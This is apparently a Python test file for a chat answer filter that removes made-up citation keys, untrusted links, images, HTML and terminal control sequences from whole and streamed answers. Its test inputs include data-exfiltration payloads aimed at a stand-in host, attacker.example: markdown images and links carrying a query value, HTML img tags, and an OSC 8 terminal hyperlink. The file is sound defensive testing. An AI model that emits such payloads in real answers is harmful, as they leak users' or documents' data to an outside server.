"""AnswerFilter: invented keys, links and images are judged before they are shown, whether an answer arrives
whole or in pieces cut anywhere, and text is held back only while a pattern is open."""
import random

import pytest

from chat.answer_filter import LINK_REMOVED, AnswerFilter
from chat.citations import clean_answer
from chat.context import select_evidence
from tests.chat.evidence_fixtures import element, hits

SITE = "https://investor.example.com/q3"


@pytest.fixture
def items():
    return select_evidence(hits(element("text", "Orbex revenue was 7,215 million dollars.", page=1),
                                element("text", "Weather was mild.", page=2),
                                element("text", f"Filings are at {SITE} and www.orbex.example.", page=3)))


@pytest.mark.parametrize("raw, shown", [
    ("Revenue was 7,215 [S1] and see [S77].", "Revenue was 7,215 [S1] and see."),
    ("Leak ![x](http://attacker.example/leak?q=7215) done [S1].", "Leak done [S1]."),
    ("Intro [S2].\n![x](http://attacker.example/leak?q=7215)\nNext [S1].", "Intro [S2].\n\nNext [S1]."),
    ("Read [the notice](http://attacker.example/?q=7215) now [S1].", "Read the notice now [S1]."),
    ("Key as a link [S1](http://attacker.example/?q=7215).", "Key as a link [S1]."),
    ("Go to http://attacker.example/c?d=7215 now [S1].", f"Go to {LINK_REMOVED} now [S1]."),
    ("Go to <http://attacker.example/c?d=7215> now.", f"Go to {LINK_REMOVED} now."),
    ("A <img src=http://attacker.example/x.png> b <a href='http://attacker.example'>link</a> c [S2].",
     "A b link c [S2]."),
    (f"Filings: {SITE}. See [S3].", f"Filings: {SITE}. See [S3]."),
    (f"Filings: <{SITE}> [S3]", f"Filings: {SITE} [S3]"),
    (f"Filings: [here]({SITE}) [S3]", f"Filings: here ({SITE}) [S3]"),
    (f"Filings: {SITE}. See [S1].", f"Filings: {LINK_REMOVED}. See [S1]."),  # cited evidence lacks the address
    (f"Filings: {SITE}?q=7215 [S3].", f"Filings: {LINK_REMOVED} [S3]."),  # data appended: not verbatim
    ("Site www.orbex.example is listed [S3].", "Site www.orbex.example is listed [S3]."),
    ("Plain [Note: draft] and [S1, S77] and [s2;S3].", "Plain [Note: draft] and [S1] and [S2, S3]."),
    ("hhttp x ftp y file z w ww.", "hhttp x ftp y file z w ww."),
    ("Unclosed [S1", "Unclosed [S1"),
])
def test_whole_answers(items, raw, shown):
    assert clean_answer(raw, items)[0] == shown


@pytest.mark.parametrize("raw", [
    "Revenue was 7,215 [S1] and see [S77]. ![x](http://attacker.example/leak?q=7215) more",
    f"[S9] Lead.\n  [S8] again [S1] {SITE} then [S3]. Read [it](http://attacker.example/?q=1) <b>ok</b>",
    f"Filings {SITE} wait for it ... and finally [S3]",
    "Key [S1](http://attacker.example/?q=1) and <https://attacker.example/a> and www.attacker.example/x?q=1.",
    "see [S9]and [S2] ![alt](",
])
def test_a_stream_cut_anywhere_shows_what_the_whole_answer_shows(items, raw):
    whole, citations = AnswerFilter(items).run(raw)
    rng = random.Random(19)
    for _ in range(150):
        cuts = sorted(rng.sample(range(1, len(raw)), rng.randint(0, min(15, len(raw) - 1))))
        pieces = [raw[a:b] for a, b in zip([0, *cuts], [*cuts, len(raw)])]
        stream = AnswerFilter(items)
        shown = "".join(stream.feed(piece) for piece in pieces) + stream.close()
        assert shown.rstrip() == whole and stream.text == whole, pieces
        assert stream.citations == citations


def test_text_is_held_only_while_a_pattern_is_open(items):
    stream = AnswerFilter(items)
    assert stream.feed("Revenue ") == "Revenue"  # the first word at once; a blank may precede a key
    assert stream.feed("was") == " was"
    assert stream.feed(" 7,215 [S") == " 7,215"
    assert stream.feed("7") == "" and stream.feed("7]") == ""  # "[S77" ... "]": judged once the next character came
    assert stream.feed(" and [S1]") == " and"  # " [S1]" might still become " [S1](...)"
    assert stream.feed(" ht") == " [S1] "  # "ht" may start a web address
    assert stream.feed("e end.") == "hte end."
    assert stream.close() == ""
    assert stream.text == "Revenue was 7,215 and [S1] hte end."


def test_an_address_from_the_evidence_waits_for_its_citation(items):
    stream = AnswerFilter(items)
    assert stream.feed(f"Filings are at {SITE} ") == "Filings are at "
    assert stream.feed("(see the notice) ") == ""  # held behind the address, in order
    assert stream.feed("[S3].") == f"{SITE} (see the notice) [S3]."
    uncited = AnswerFilter(items)
    assert uncited.feed(f"Filings are at {SITE} and more.") == "Filings are at "
    assert uncited.close() == f"{LINK_REMOVED} and more."


def test_without_links_only_keys_are_resolved(items):
    text, citations = AnswerFilter(items, links=False).run("See http://attacker.example/?q=1 [S1][S9].")
    assert text == "See http://attacker.example/?q=1 [S1]." and [c.key for c in citations] == ["S1"]


def test_terminal_control_characters_are_removed(items):
    osc8 = "\x1b]8;;http://attacker.example/?q=7215\x1b\\click\x1b]8;;\x1b\\"
    text, _ = clean_answer(f"Revenue\x07 was 7,215 [S1]. {osc8}\x1b[2J done\r\n", items)
    assert "\x1b" not in text and "\x07" not in text and "\r" not in text and "attacker" not in text
    assert text.startswith("Revenue was 7,215 [S1].") and text.endswith("done")


def test_a_long_stream_matches_the_whole_answer(items):
    raw = (f"Revenue was 7,215 [S1][S77], see {SITE} [S3] and ![x](http://attacker.example/i.png) "
           "[more](http://attacker.example/?q=1) www.attacker.example/x?q=2.\n") * 120  # ~20,000 characters
    whole, citations = clean_answer(raw, items)
    assert "attacker" not in whole and "S77" not in whole and whole.count(SITE) == 120
    for size in (1, 5, 64):
        stream = AnswerFilter(items)
        shown = "".join(stream.feed(raw[i:i + size]) for i in range(0, len(raw), size)) + stream.close()
        assert shown.rstrip() == whole and stream.citations == citations
